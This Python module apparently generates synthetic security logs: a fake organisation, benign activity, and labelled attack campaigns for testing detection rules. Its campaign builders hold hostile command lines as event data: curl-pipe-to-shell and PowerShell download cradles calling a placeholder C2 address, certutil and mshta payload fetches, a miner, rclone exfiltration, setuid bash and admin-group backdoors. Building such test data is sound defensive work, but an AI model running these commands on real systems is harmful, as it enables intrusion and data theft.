"""Scenario building blocks: a fixed synthetic organisation, benign activity and attack campaigns.

Why a fixed "world": benign behaviour must be *stable* per entity (a user logs in to the same
one or two servers, a workstation talks to a handful of ports) so that the default threshold
rules never fire on background noise, while each campaign is one attacker entity doing many
things quickly, which is what the rules look for.

Every builder returns plain dicts in the ``SecurityEvent`` shape (without ``event_id`` and
``timestamp``, which the engine stamps). Builders only draw from the ``random.Random`` they are
given, so a seed reproduces everything.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from secustream.events import ThreatClass

EventDict = dict[str, Any]
Step = tuple[float, EventDict]
"""(delay in seconds after the campaign's previous event, event fields)."""

# --------------------------------------------------------------------------------------------
# The organisation
# --------------------------------------------------------------------------------------------

_FIRST = (
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "niaj",
    "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yvonne", "zoe", "liam", "noah",
    "emma", "ava", "mia", "lucas", "ethan", "sofia", "amir", "chen", "priya", "omar", "lena", "marta",
)
_LAST = ("smith", "jones", "garcia", "kim", "nguyen", "patel", "muller", "rossi", "silva", "khan", "ito", "berg")

_PUBLIC_FIRST_OCTETS = (
    23, 31, 37, 45, 46, 51, 62, 77, 78, 81, 85, 89, 91, 93, 103, 109, 134, 141, 146, 151, 156, 176, 178,
    185, 188, 193, 194, 195, 212, 213, 217,
)

_WEB_DOMAINS = (
    "www.google.com", "outlook.office365.com", "github.com", "stackoverflow.com", "docs.python.org",
    "www.wikipedia.org", "slack.com", "zoom.us", "www.linkedin.com", "news.ycombinator.com",
    "login.microsoftonline.com", "aws.amazon.com", "cdn.jsdelivr.net", "fonts.googleapis.com",
    "update.googleapis.com", "www.bbc.co.uk", "pypi.org", "registry.npmjs.org", "teams.microsoft.com",
    "confluence.corp.example", "jira.corp.example", "intranet.corp.example",
)
_URL_PATHS = ("/", "/index.html", "/search?q=quarterly+report", "/api/v1/items", "/static/app.js",
              "/login", "/mail/inbox", "/wiki/Main_Page", "/questions/tagged/python", "/favicon.ico")
_USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328)",
)
# Benign destination ports: deliberately a small set (< the port-scan threshold of 20 distinct).
_BENIGN_PORTS = (443, 443, 443, 80, 53, 123, 993, 587, 8443, 22, 5432, 3389)

_WIN_PROCS: tuple[tuple[str, str, str], ...] = (
    ("chrome.exe", "explorer.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer'),
    ("OUTLOOK.EXE", "explorer.exe", r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"'),
    ("Teams.exe", "explorer.exe", r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe"),
    ("svchost.exe", "services.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    ("notepad.exe", "explorer.exe", r"C:\Windows\system32\notepad.exe C:\Users\{user}\Documents\notes.txt"),
    ("EXCEL.EXE", "explorer.exe", r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /dde'),
    # near-misses: legitimate use of tools that the malicious-process rules watch
    ("powershell.exe", "explorer.exe",
     r"powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\IT\Scripts\inventory.ps1"),
    ("powershell.exe", "cmd.exe", r"powershell.exe Get-Content C:\logs\app.log -Encoding UTF8 -Tail 50"),
    ("certutil.exe", "cmd.exe", r"certutil.exe -hashfile C:\Users\{user}\Downloads\setup.msi SHA256"),
    ("cmd.exe", "explorer.exe", r'cmd.exe /c "ipconfig /all"'),
    ("MsMpEng.exe", "services.exe", r'"C:\ProgramData\Microsoft\Windows Defender\Platform\MsMpEng.exe"'),
)
_LINUX_PROCS: tuple[tuple[str, str, str], ...] = (
    ("bash", "sshd", "-bash"),
    ("ls", "bash", "ls -la /var/log"),
    ("python3", "bash", "python3 manage.py migrate"),
    ("git", "bash", "git pull --ff-only"),
    ("systemctl", "bash", "systemctl status nginx"),
    ("curl", "bash", "curl -sS -o /dev/null -w %{http_code} https://intranet.corp.example/healthz"),
    ("apt-get", "bash", "apt-get -y install htop"),
    ("chmod", "bash", "chmod 0755 /srv/app/bin/run.sh"),
    ("chmod", "bash", "chmod +x deploy.sh"),
    ("tar", "bash", "tar czf /backup/etc-daily.tgz /etc"),
    ("crond", "systemd", "/usr/sbin/crond -n"),
)
_BENIGN_FILES = (
    r"C:\Users\{user}\Documents\Q3-report.docx", r"C:\Users\{user}\Downloads\invoice-2291.pdf",
    r"\\fs01\shared\finance\budget.xlsx", "/home/{user}/projects/app/main.py", "/var/log/nginx/access.log",
    "/etc/nginx/nginx.conf", r"C:\Users\{user}\Desktop\todo.txt",
)
_DNS_SERVER = "10.10.0.53"
_PRIVILEGED_GROUPS_WIN = ("Administrators", "Domain Admins")
_BENIGN_GROUPS = ("Marketing", "VPN-Users", "Developers", "Finance-RO", "docker-readers")
_SERVICE_ACCOUNTS = ("www-data", "nobody", "postgres", "tomcat", "jenkins")
_INTERNET_USERNAMES = ("root", "admin", "test", "ubuntu", "oracle", "user", "postgres", "git", "pi", "ftpuser",
                       "guest", "deploy", "support", "administrator", "jenkins")


@dataclass(frozen=True, slots=True)
class Host:
    name: str
    ip: str
    os: str  # "windows" | "linux"


@dataclass(frozen=True, slots=True)
class Person:
    name: str
    workstation: Host
    servers: tuple[Host, ...]  # the one or two servers this person normally logs in to


@dataclass(frozen=True)
class World:
    """The synthetic organisation every scenario draws from (built once per generator)."""

    people: tuple[Person, ...]
    admins: tuple[Person, ...]
    servers: tuple[Host, ...]
    web_servers: tuple[Host, ...]
    file_server: Host
    domain_controllers: tuple[Host, ...]
    backup_server: Host
    vpn_gateway: Host
    web: tuple[tuple[str, str], ...]  # (domain, ip) pairs of the benign internet


def public_ip(rng: random.Random) -> str:
    """A random address outside RFC1918/loopback/multicast (cheap: a known-public first octet)."""
    return (f"{rng.choice(_PUBLIC_FIRST_OCTETS)}.{rng.randrange(256)}."
            f"{rng.randrange(256)}.{rng.randrange(1, 255)}")


def build_world(rng: random.Random, n_people: int = 200) -> World:
    servers = tuple(
        Host(f"srv-{role}-{i:02d}", f"10.10.1.{10 + k}", "linux")
        for k, (role, i) in enumerate(
            [(r, i) for r in ("web", "app", "db", "cache", "ci") for i in range(1, 5)]
        )
    )
    web_servers = tuple(h for h in servers if "-web-" in h.name)
    people: list[Person] = []
    used: set[str] = set()
    for i in range(n_people):
        name = f"{rng.choice(_FIRST)}.{rng.choice(_LAST)}"
        while name in used:
            name = f"{rng.choice(_FIRST)}.{rng.choice(_LAST)}{rng.randrange(10, 99)}"
        used.add(name)
        os_ = "windows" if rng.random() < 0.7 else "linux"
        ws = Host(f"WS-{1000 + i}" if os_ == "windows" else f"lx-{1000 + i}",
                  f"10.20.{i // 250}.{10 + i % 240}", os_)
        home = tuple(rng.sample(servers, rng.choice((1, 1, 2))))
        people.append(Person(name, ws, home))
    web = tuple((d, public_ip(rng)) for d in _WEB_DOMAINS)
    return World(
        people=tuple(people),
        admins=tuple(people[:6]),
        servers=servers,
        web_servers=web_servers,
        file_server=Host("fs01", "10.10.0.20", "windows"),
        domain_controllers=(Host("dc01", "10.10.0.10", "windows"), Host("dc02", "10.10.0.11", "windows")),
        backup_server=Host("backup01", "10.10.0.30", "linux"),
        vpn_gateway=Host("vpn-gw", "10.10.0.2", "linux"),
        web=web,
    )


# --------------------------------------------------------------------------------------------
# Event dict helpers (shared by benign and campaign builders)
# --------------------------------------------------------------------------------------------

def ssh_login(src_ip: str, dst: Host, user: str, ok: bool, rng: random.Random, *, method: str = "password",
              invalid_user: bool = False) -> EventDict:
    port = rng.randrange(32768, 61000)
    if ok:
        msg = f"Accepted {method} for {user} from {src_ip} port {port} ssh2"
    else:
        msg = f"Failed {method} for {'invalid user ' if invalid_user else ''}{user} from {src_ip} port {port} ssh2"
    unmapped: dict[str, Any] = {"ssh_auth_method": method}
    if invalid_user:
        unmapped["invalid_user"] = True
    return {
        "event_type": "auth", "action": "ssh_login", "outcome": "success" if ok else "failure", "message": msg,
        "source": {"ip": src_ip, "port": port},
        "destination": {"ip": dst.ip, "host": dst.name, "port": 22, "user": user},
        "process": {"name": "sshd", "pid": rng.randrange(1000, 65000)},
        "product": "openssh", "vendor": "openbsd", "dataset": "sshd", "unmapped": unmapped,
    }


def ssh_invalid_user(src_ip: str, dst: Host, user: str, rng: random.Random) -> EventDict:
    port = rng.randrange(32768, 61000)
    return {
        "event_type": "auth", "action": "ssh_invalid_user", "outcome": "failure",
        "message": f"Invalid user {user} from {src_ip} port {port}",
        "source": {"ip": src_ip, "port": port},
        "destination": {"ip": dst.ip, "host": dst.name, "port": 22, "user": user},
        "process": {"name": "sshd", "pid": rng.randrange(1000, 65000)},
        "product": "openssh", "vendor": "openbsd", "dataset": "sshd",
    }


# Where the generated programs live (Sysmon's Image is a full path; Sigma rules test it with endswith
# "\\name.exe" and flag a process without one as "Execution Of Non-Existing File").
_WIN_PATHS = {
    "chrome.exe": r"C:\Program Files\Google\Chrome\Application",
    "OUTLOOK.EXE": r"C:\Program Files\Microsoft Office\root\Office16",
    "EXCEL.EXE": r"C:\Program Files\Microsoft Office\root\Office16",
    "WINWORD.EXE": r"C:\Program Files\Microsoft Office\root\Office16",
    "Teams.exe": r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current",
    "powershell.exe": r"C:\Windows\System32\WindowsPowerShell\v1.0",
    "MsMpEng.exe": r"C:\ProgramData\Microsoft\Windows Defender\Platform",
    "7z.exe": r"C:\Program Files\7-Zip",
    "rclone": r"C:\Users\{user}\Downloads",
    "svc.exe": r"C:\Users\{user}\AppData\Local\Temp",
}
_LINUX_PATHS = {"sshd": "/usr/sbin", "crond": "/usr/sbin", ".kworker": "/tmp"}


def executable(os_name: str, name: str, user: str) -> str:
    """The full path of a generated program: Windows system tools in System32, Linux ones in /usr/bin."""
    if os_name == "windows":
        folder = _WIN_PATHS.get(name, r"C:\Windows\System32").replace("{user}", user)
        return f"{folder}\\{name if name.lower().endswith('.exe') else name + '.exe'}"
    return f"{_LINUX_PATHS.get(name, '/usr/bin')}/{name}"


def process_start(host: Host, user: str, name: str, parent: str, cmd: str, rng: random.Random) -> EventDict:
    event: EventDict = {
        "event_type": "process", "action": "process_start", "outcome": "success",
        "source": {"ip": host.ip, "host": host.name, "user": user},
        "process": {"name": name, "executable": executable(host.os, name, user), "pid": rng.randrange(300, 65000),
                    "command_line": cmd, "user": user, "parent_name": parent,
                    "parent_pid": rng.randrange(300, 65000)},
        "dataset": "sysmon" if host.os == "windows" else "auditd",
        "product": "sysmon" if host.os == "windows" else "auditd",
    }
    if host.os == "windows":  # Sysmon's own name for the parent's path (our schema keeps only its name)
        event["unmapped"] = {"ParentImage": executable(host.os, parent, user)}
    return event


def flow(src: Host | str, dst_ip: str, dst_port: int, rng: random.Random, *, bytes_out: int, bytes_in: int,
         direction: str, outcome: str = "success", action: str = "flow", dst_host: str | None = None) -> EventDict:
    src_ip, src_host = (src.ip, src.name) if isinstance(src, Host) else (src, None)
    return {
        "event_type": "network", "action": action, "outcome": outcome,
        "source": {"ip": src_ip, "host": src_host, "port": rng.randrange(32768, 61000)},
        "destination": {"ip": dst_ip, "port": dst_port, "host": dst_host},
        "network": {"transport": "tcp", "direction": direction, "bytes_out": bytes_out, "bytes_in": bytes_in},
        "dataset": "netflow", "product": "zeek",
    }


def dns_query(host: Host, query: str, rng: random.Random, answers: list[str] | None = None,
              record_type: str = "A") -> EventDict:
    return {
        "event_type": "dns", "action": "dns_query", "outcome": "success",
        "source": {"ip": host.ip, "host": host.name, "port": rng.randrange(32768, 61000)},
        "destination": {"ip": _DNS_SERVER, "port": 53},
        "dns": {"query": query, "record_type": record_type, "answers": answers or []},
        "dataset": "dns", "product": "zeek",
    }


def sudo(host: Host, user: str, command: str, ok: bool, rng: random.Random, *, reason: str = "") -> EventDict:
    if ok:
        msg = f"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"
    else:
        msg = f"{user} : {reason or 'user NOT in sudoers'} ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={command}"
    return {
        "event_type": "auth", "action": "sudo", "outcome": "success" if ok else "failure", "message": msg,
        "source": {"ip": host.ip, "host": host.name, "user": user},
        "destination": {"host": host.name, "user": "root"},
        "process": {"name": "sudo", "pid": rng.randrange(300, 65000), "command_line": command, "user": user},
        "dataset": "auth", "product": "sudo",
    }


def group_member_added(host: Host, actor: str, member: str, group: str, rng: random.Random) -> EventDict:
    return {
        "event_type": "auth", "action": "group_member_added", "outcome": "success",
        "message": f"A member was added to a security-enabled local group: {member} -> {group}",
        "source": {"ip": host.ip, "host": host.name, "user": actor},
        "destination": {"host": host.name, "user": member},
        "dataset": "windows.security", "product": "windows", "vendor": "microsoft",
        "unmapped": {"event_code": 4732, "group": group, "record_id": rng.randrange(10**6, 10**7)},
    }


# --------------------------------------------------------------------------------------------
# Benign activity
# --------------------------------------------------------------------------------------------

BenignBuilder = Callable[[random.Random, World], EventDict]


def _b_ssh_ok(rng: random.Random, w: World) -> EventDict:
    p = rng.choice(w.people)
    return ssh_login(p.workstation.ip, rng.choice(p.servers), p.name, True, rng,
                     method=rng.choice(("publickey", "publickey", "password")))


def _b_ssh_internet_noise(rng: random.Random, w: World) -> EventDict:
    # one failed login from a fresh internet address: background noise every exposed sshd sees
    user = rng.choice(_INTERNET_USERNAMES)
    if rng.random() < 0.3:
        return ssh_invalid_user(public_ip(rng), rng.choice(w.web_servers), user, rng)
    return ssh_login(public_ip(rng), rng.choice(w.web_servers), user, False, rng,
                     invalid_user=user not in ("root", "postgres", "git", "deploy"))


def _b_ssh_typo(rng: random.Random, w: World) -> EventDict:
    p = rng.choice(w.people)
    return ssh_login(p.workstation.ip, rng.choice(p.servers), p.name, False, rng)


def _b_vpn(rng: random.Random, w: World) -> EventDict:
    p = rng.choice(w.people)
    ok = rng.random() < 0.95
    return {
        "event_type": "auth", "action": "vpn_login", "outcome": "success" if ok else "failure",
        "source": {"ip": public_ip(rng), "port": rng.randrange(32768, 61000)},
        "destination": {"ip": w.vpn_gateway.ip, "host": w.vpn_gateway.name, "port": 443, "user": p.name},
        "dataset": "vpn", "product": "openvpn",
    }


def _b_http(rng: random.Random, w: World) -> EventDict:
    p = rng.choice(w.people)
    domain, ip = rng.choice(w.web)
    method = "GET" if rng.random() < 0.85 else "POST"
    size = int(rng.lognormvariate(9, 1.5)) % 5_000_000
    return {
        "event_type": "http", "action": "http_request", "outcome": "success",
        "source": {"ip": p.workstation.ip, "host": p.workstation.name, "user": p.name},
        "destination": {"ip": ip, "port": 443, "domain": domain},
        "http": {"method": method, "url": f"https://{domain}{rng.choice(_URL_PATHS)}",
                 "status_code": rng.choice((200, 200, 200, 200, 304, 302, 404)),
                 "user_agent": rng.choice(_USER_AGENTS), "bytes": size},
        "dataset": "proxy", "product": "squid",
    }


def _b_dns(rng: random.Random, w: World) -> EventDict:
    p = rng.choice(w.people)
    domain, ip = rng.choice(w.web)
    return dns_query(p.workstation, domain, rng, [ip], rng.choice(("A", "A", "A", "AAAA")))


def _b_process(rng: random.Random, w: World) -> EventDict:
    p = rng.choice(w.people)
    table = _WIN_PROCS if p.workstation.os == "windows" else _LINUX_PROCS
    name, parent, cmd = rng.choice(table)
    return process_start(p.workstation, p.name, name, parent, cmd.replace("{user}", p.name), rng)


def _b_file(rng: random.Random, w: World) -> EventDict:
    p = rng.choice(w.people)
    path = rng.choice(_BENIGN_FILES).replace("{user}", p.name)
    action = rng.choice(("file_open", "file_open", "file_open", "file_write", "file_delete"))
    return {
        "event_type": "file", "action": action, "outcome": "success",
        "source": {"ip": p.workstation.ip, "host": p.workstation.name, "user": p.name},
        "file": {"path": path, "name": path.replace("\\", "/").rsplit("/", 1)[-1],
                 "size": rng.randrange(1_000, 5_000_000), "action": action},
        "dataset": "file_audit", "product": "sysmon" if p.workstation.os == "windows" else "auditd",
    }


def _b_flow_out(rng: random.Random, w: World) -> EventDict:
    p = rng.choice(w.people)
    domain, ip = rng.choice(w.web)
    out = min(int(rng.lognormvariate(8.5, 1.6)), 20_000_000)
    return flow(p.workstation, ip, rng.choice(_BENIGN_PORTS), rng, bytes_out=out,
                bytes_in=min(int(rng.lognormvariate(11, 1.8)), 900_000_000), direction="outbound",
                dst_host=domain)


def _b_flow_internal(rng: random.Random, w: World) -> EventDict:
    r = rng.random()
    if r < 0.08:
        # nightly backup: big but internal (the exfil rule must ignore RFC1918 destinations)
        src = rng.choice(w.servers)
        return flow(src, w.backup_server.ip, 873, rng, bytes_out=rng.randrange(100_000_000, 4_000_000_000),
                    bytes_in=rng.randrange(10_000, 1_000_000), direction="internal", dst_host=w.backup_server.name)
    p = rng.choice(w.people)
    if r < 0.55:
        dst, port = w.file_server, 445
    else:
        dst, port = rng.choice(w.domain_controllers), rng.choice((445, 389, 88, 53))
    return flow(p.workstation, dst.ip, port, rng, bytes_out=rng.randrange(500, 2_000_000),
                bytes_in=rng.randrange(500, 20_000_000), direction="internal", dst_host=dst.name)


def _b_sudo(rng: random.Random, w: World) -> EventDict:
    admin = rng.choice(w.admins)
    srv = rng.choice(w.servers)
    cmd = rng.choice(("/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/usr/bin/journalctl -u app",
                      "/usr/bin/tail -n 100 /var/log/syslog"))
    if rng.random() < 0.03:
        return sudo(srv, admin.name, cmd, False, rng, reason="1 incorrect password attempt")
    return sudo(srv, admin.name, cmd, True, rng)


def _b_group(rng: random.Random, w: World) -> EventDict:
    admin = rng.choice(w.admins)
    p = rng.choice(w.people)
    return group_member_added(w.domain_controllers[0], admin.name, p.name, rng.choice(_BENIGN_GROUPS), rng)


BENIGN_MIX: tuple[tuple[BenignBuilder, float], ...] = (
    (_b_ssh_ok, 5.0),
    (_b_ssh_internet_noise, 2.5),
    (_b_ssh_typo, 0.5),
    (_b_vpn, 2.0),
    (_b_http, 22.0),
    (_b_dns, 20.0),
    (_b_process, 15.0),
    (_b_file, 8.0),
    (_b_flow_out, 15.0),
    (_b_flow_internal, 6.0),
    (_b_sudo, 1.5),
    (_b_group, 0.2),
)
"""Benign builders and their relative weights."""


# --------------------------------------------------------------------------------------------
# Attack campaigns: one attacker entity, a short ordered sequence of steps
# --------------------------------------------------------------------------------------------

CampaignBuilder = Callable[[random.Random, World], list[Step]]


def _brute_force(rng: random.Random, w: World) -> list[Step]:
    attacker = public_ip(rng)
    target = rng.choice(w.web_servers)
    users = (["root"] if rng.random() < 0.5 else list(_INTERNET_USERNAMES))
    steps: list[Step] = []
    for _ in range(rng.randrange(12, 40)):
        # only "Failed password" events: every failure-labelled brute-force event is one the
        # threshold rule counts, so "n failures >= threshold" and "flagged" mean the same thing
        user = rng.choice(users)
        invalid = user not in ("root", "postgres", "git", "deploy")
        steps.append((rng.uniform(0.4, 3.0), ssh_login(attacker, target, user, False, rng, invalid_user=invalid)))
    if rng.random() < 0.3:  # the password was guessed
        steps.append((rng.uniform(0.5, 3.0), ssh_login(attacker, target, "root", True, rng)))
    return steps


def _port_scan(rng: random.Random, w: World) -> list[Step]:
    if rng.random() < 0.6:
        scanner: Host | str = public_ip(rng)
        target = rng.choice(w.web_servers)
    else:  # an internal foothold sweeping a server
        scanner = rng.choice(w.people).workstation
        target = rng.choice(w.servers)
    common = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2049, 3306,
              3389, 5432, 5900, 6379, 8000, 8080, 8443, 9200, 11211, 27017]
    ports = rng.sample(common, rng.randrange(18, len(common))) + rng.sample(range(1024, 65535), rng.randrange(8, 40))
    rng.shuffle(ports)
    open_ports = {22, 80, 443}
    steps: list[Step] = []
    for port in ports:
        ok = port in open_ports
        steps.append((rng.uniform(0.02, 0.4), flow(scanner, target.ip, port, rng, bytes_out=60 if ok else 44,
                                                  bytes_in=60 if ok else 40, direction="inbound",
                                                  outcome="success" if ok else "failure",
                                                  action="connection_attempt", dst_host=target.name)))
    return steps


def _b32(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(n))


def _exfiltration(rng: random.Random, w: World) -> list[Step]:
    if rng.random() < 0.5:
        victim = rng.choice([s for s in w.servers if "-db-" in s.name or "-app-" in s.name])
        user = rng.choice(("postgres", "app"))
    else:
        p = rng.choice(w.people)
        victim, user = p.workstation, p.name
    drop_ip = public_ip(rng)
    drop_domain = rng.choice(("files-sync", "cdn-static", "upd4te", "backup-store")) + "." + rng.choice(
        ("xyz", "top", "tk", "ru", "cc"))
    steps: list[Step] = []
    if rng.random() < 0.35:  # DNS tunnelling: data smuggled in long sub-domain labels
        for i in range(rng.randrange(25, 60)):
            label = _b32(rng, rng.randrange(40, 60))
            steps.append((rng.uniform(0.1, 1.5),
                          dns_query(victim, f"{label}.{i}.t.{drop_domain}", rng, record_type="TXT")))
        return steps
    archive = "/tmp/.cache/.d.tgz" if victim.os == "linux" else r"C:\Users\Public\d.7z"
    if victim.os == "linux":
        staging = process_start(victim, user, "tar", "bash", f"tar czf {archive} /srv/data /var/lib/postgresql", rng)
    else:
        staging = process_start(victim, user, "7z.exe", "cmd.exe",
                                rf'7z.exe a -pS3cret! {archive} "\\fs01\shared\finance"', rng)
    steps.append((0.0, staging))
    steps.append((rng.uniform(1, 10), dns_query(victim, drop_domain, rng, [drop_ip])))
    if rng.random() < 0.3:
        tool = "rclone copy /srv/data mega:dump --transfers 8" if victim.os == "linux" else \
            r"rclone.exe copy \\fs01\shared mega:dump --transfers 8"
        steps.append((rng.uniform(1, 5), process_start(victim, user, "rclone", "bash", tool, rng)))
    for _ in range(rng.randrange(1, 4)):
        steps.append((rng.uniform(5, 40), flow(victim, drop_ip, rng.choice((443, 443, 8443, 21)), rng,
                                               bytes_out=rng.randrange(60_000_000, 3_000_000_000),
                                               bytes_in=rng.randrange(10_000, 500_000), direction="outbound",
                                               dst_host=drop_domain)))
    return steps


def _ps_enc(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def _malicious_process(rng: random.Random, w: World) -> list[Step]:
    c2 = public_ip(rng)
    steps: list[Step] = []
    windows = [p for p in w.people if p.workstation.os == "windows"]
    linux = [p for p in w.people if p.workstation.os == "linux"]
    variant = rng.choice(("macro", "lolbin", "mshta", "linux"))
    if variant == "linux" and linux:
        p = rng.choice(linux)
        host = p.workstation if rng.random() < 0.5 else rng.choice(w.web_servers)
        user = p.name if host is p.workstation else "www-data"
        fetch = rng.choice((f"curl -fsSL http://{c2}/install.sh | sh", f"wget -qO- http://{c2}/x | bash",
                            f"curl -s http://{c2}/k.sh | sudo bash"))
        steps.append((0.0, process_start(host, user, "sh", "bash", f"sh -c '{fetch}'", rng)))
        steps.append((rng.uniform(0.5, 3), flow(host, c2, 80, rng, bytes_out=400, bytes_in=2_400_000,
                                                direction="outbound")))
        steps.append((rng.uniform(0.5, 3), process_start(host, user, "chmod", "sh", "chmod +x /tmp/.kworker", rng)))
        steps.append((rng.uniform(0.5, 3), process_start(host, user, ".kworker", "sh",
                                                         f"/tmp/.kworker -o {c2}:3333 --donate-level 0", rng)))
        return steps
    p = rng.choice(windows)
    host = p.workstation
    if variant == "macro":
        doc = rf"C:\Users\{p.name}\Downloads\Invoice_{rng.randrange(1000, 9999)}.docm"
        steps.append((0.0, process_start(host, p.name, "WINWORD.EXE", "OUTLOOK.EXE",
                                         f'"WINWORD.EXE" /n "{doc}"', rng)))
        payload = _ps_enc(f"IEX (New-Object Net.WebClient).DownloadString('http://{c2}/a.ps1')")
        flag = rng.choice(("-enc", "-EncodedCommand", "-e", "-ec"))
        steps.append((rng.uniform(1, 5), process_start(host, p.name, "powershell.exe", "WINWORD.EXE",
                                                       f"powershell.exe -nop -w hidden {flag} {payload}", rng)))
    elif variant == "mshta":
        steps.append((0.0, process_start(host, p.name, "mshta.exe", "explorer.exe",
                                         f"mshta.exe http://{c2}/update.hta", rng)))
        steps.append((rng.uniform(1, 5), process_start(
            host, p.name, "regsvr32.exe", "mshta.exe",
            f"regsvr32.exe /s /n /u /i:http://{c2}/file.sct scrobj.dll", rng)))
    else:
        steps.append((0.0, process_start(host, p.name, "cmd.exe", "explorer.exe", 'cmd.exe /c "whoami /all"', rng)))
    steps.append((rng.uniform(1, 5), process_start(
        host, p.name, "certutil.exe", "cmd.exe",
        rf"certutil.exe -urlcache -split -f http://{c2}/payload.bin "
        rf"C:\Users\{p.name}\AppData\Local\Temp\svc.exe", rng)))
    steps.append((rng.uniform(0.5, 3), flow(host, c2, 443, rng, bytes_out=1_200, bytes_in=350_000,
                                            direction="outbound")))
    steps.append((rng.uniform(1, 5), process_start(host, p.name, "svc.exe", "cmd.exe",
                                                   rf"C:\Users\{p.name}\AppData\Local\Temp\svc.exe", rng)))
    return steps


def _privilege_escalation(rng: random.Random, w: World) -> list[Step]:
    steps: list[Step] = []
    variant = rng.choice(("webshell", "sudo_misconfig", "windows"))
    if variant == "windows":
        p = rng.choice([q for q in w.people if q.workstation.os == "windows"])
        host = p.workstation
        steps.append((0.0, process_start(host, p.name, "whoami.exe", "cmd.exe", "whoami /priv", rng)))
        group = rng.choice(_PRIVILEGED_GROUPS_WIN)
        steps.append((rng.uniform(2, 10), process_start(host, p.name, "net.exe", "cmd.exe",
                                                        f'net localgroup "{group}" {p.name} /add', rng)))
        steps.append((rng.uniform(0.1, 1), group_member_added(host, p.name, p.name, group, rng)))
        return steps
    host = rng.choice(w.web_servers)
    user = rng.choice(_SERVICE_ACCOUNTS)
    steps.append((0.0, process_start(host, user, "id", "sh", "id", rng)))
    if variant == "sudo_misconfig":
        steps.append((rng.uniform(1, 5), sudo(host, user, "/bin/bash", True, rng)))
    else:
        for _ in range(rng.randrange(3, 6)):
            cmd = rng.choice(("/bin/sh", "-l", "/usr/bin/id"))
            steps.append((rng.uniform(1, 8), sudo(host, user, cmd, False, rng)))
        steps.append((rng.uniform(2, 10), process_start(host, user, "pkexec", "sh", "pkexec /bin/sh", rng)))
        steps.append((rng.uniform(1, 5), process_start(
            host, "root", "chmod", "sh", rng.choice(("chmod u+s /bin/bash", "chmod 4755 /tmp/.sh")), rng)))
    backdoor = rng.choice(("svc-backup", "sysadm", user))
    steps.append((rng.uniform(1, 10), process_start(host, "root", "usermod", "bash",
                                                    f"usermod -aG {rng.choice(('sudo', 'wheel'))} {backdoor}", rng)))
    return steps


def _lateral_movement(rng: random.Random, w: World) -> list[Step]:
    steps: list[Step] = []
    n_targets = rng.randrange(5, 9)
    if rng.random() < 0.5:  # Linux: stolen key used from one server to hop across many
        src = rng.choice(w.servers)
        targets = rng.sample([s for s in w.servers if s != src], n_targets)
        for t in targets:
            if rng.random() < 0.25:
                steps.append((rng.uniform(1, 8), ssh_login(src.ip, t, "root", False, rng, method="publickey")))
            steps.append((rng.uniform(2, 25), ssh_login(src.ip, t, rng.choice(("root", "deploy")), True, rng,
                                                        method="publickey")))
        return steps
    p = rng.choice([q for q in w.people if q.workstation.os == "windows"])
    src = p.workstation
    pool = [q.workstation for q in w.people if q.workstation.os == "windows" and q is not p]
    targets = rng.sample(pool, n_targets - 2) + list(w.domain_controllers)
    rng.shuffle(targets)
    for t in targets:
        steps.append((rng.uniform(2, 20), flow(src, t.ip, 445, rng, bytes_out=rng.randrange(2_000, 400_000),
                                               bytes_in=rng.randrange(2_000, 50_000), direction="internal",
                                               dst_host=t.name)))
        how = rng.choice(("psexec", "wmic", "sc"))
        if how == "psexec":
            cmd = rf"PsExec64.exe \\{t.name} -accepteula -s cmd.exe /c whoami"
            name = "PsExec64.exe"
        elif how == "wmic":
            cmd = rf'wmic.exe /node:{t.name} process call create "cmd.exe /c net user"'
            name = "wmic.exe"
        else:
            cmd = rf'sc.exe \\{t.name} create updsvc binPath= "C:\Windows\Temp\u.exe" start= auto'
            name = "sc.exe"
        ev = process_start(src, p.name, name, "cmd.exe", cmd, rng)
        ev["destination"] = {"ip": t.ip, "host": t.name}
        steps.append((rng.uniform(0.2, 2), ev))
        if how in ("psexec", "sc"):
            svc = "PSEXESVC" if how == "psexec" else "updsvc"
            steps.append((rng.uniform(0.1, 1), {
                "event_type": "system", "action": "service_installed", "outcome": "success",
                "message": f"A service was installed in the system. Service Name: {svc}",
                "source": {"ip": src.ip, "host": src.name, "user": p.name},
                "destination": {"ip": t.ip, "host": t.name},
                "dataset": "windows.system", "product": "windows", "vendor": "microsoft",
                "unmapped": {"event_code": 7045, "service_name": svc},
            }))
    return steps


CAMPAIGNS: dict[ThreatClass, CampaignBuilder] = {
    ThreatClass.BRUTE_FORCE: _brute_force,
    ThreatClass.PORT_SCAN: _port_scan,
    ThreatClass.DATA_EXFILTRATION: _exfiltration,
    ThreatClass.MALICIOUS_PROCESS: _malicious_process,
    ThreatClass.PRIVILEGE_ESCALATION: _privilege_escalation,
    ThreatClass.LATERAL_MOVEMENT: _lateral_movement,
}
"""Campaign builders by the class their events are labelled with."""
